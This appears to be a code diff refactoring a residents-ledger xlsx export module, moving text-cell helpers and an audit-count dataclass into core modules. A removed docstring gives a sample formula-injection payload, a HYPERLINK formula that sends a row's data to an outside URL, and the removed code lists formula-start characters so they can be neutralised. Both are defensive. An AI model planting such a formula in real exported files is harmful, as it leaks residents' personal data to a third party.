@@ -1,38 +1,21 @@
 """The xlsx files the ledger writes: the template, the filtered residents list (scoped and
 masked) and the import's error file.
 
-Every cell is written as text. openpyxl makes any string starting with "=" a formula, so a name
-like =HYPERLINK("http://…?"&G2) would send the row away from whoever opens the file; a text
-cell is never evaluated. Values starting with a character a spreadsheet reads as the start of a
-formula also get Excel's quote prefix (the leading apostrophe), so editing the cell keeps it text.
+Every cell is written as a text cell by core.xlsx (why: its docstring).
 """
 
 import contextlib
 import io
 import tempfile
-from dataclasses import dataclass, field
 
 from openpyxl import Workbook
-from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 
+from linli.core.exports import Exported
 from linli.core.masking import mask_id_number, mask_phone
+from linli.core.xlsx import text_row
 
 from . import columns as C
-
-FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "\t", "\r", "\n")
-
-
-def text_cell(ws, value):
-    cell = WriteOnlyCell(ws, "" if value is None else str(value))
-    cell.data_type = "s"
-    if cell.value.startswith(FORMULA_STARTS):
-        cell.quotePrefix = True
-    return cell
-
-
-def text_row(ws, values):
-    return [text_cell(ws, v) for v in values]
 
 
 def template_workbook() -> bytes:
@@ -83,16 +66,6 @@ def template_workbook() -> bytes:
     return buf.getvalue()
 
 
-@dataclass
-class Exported:
-    """What an export held, for its audit record: how many rows, and the places they came from."""
-
-    rows: int = 0
-    subdistricts: set = field(default_factory=set)
-    communities: set = field(default_factory=set)
-    grids: set = field(default_factory=set)
-
-
 def export_workbook(persons, shown_tags, out) -> Exported:
     """Write the residents to the file `out`. persons: an iterable already restricted to the
     user's scope, with places selected and tags prefetched; shown_tags(person): the tags the user
@@ -121,10 +94,7 @@ def export_workbook(persons, shown_tags, out) -> Exported:
                 ],
             )
         )
-        done.rows += 1
-        done.subdistricts.add(p.subdistrict_id)
-        done.communities.add(p.community_id)
-        done.grids.add(p.grid_id)
+        done.add(p)
     wb.save(out)
     return done
 
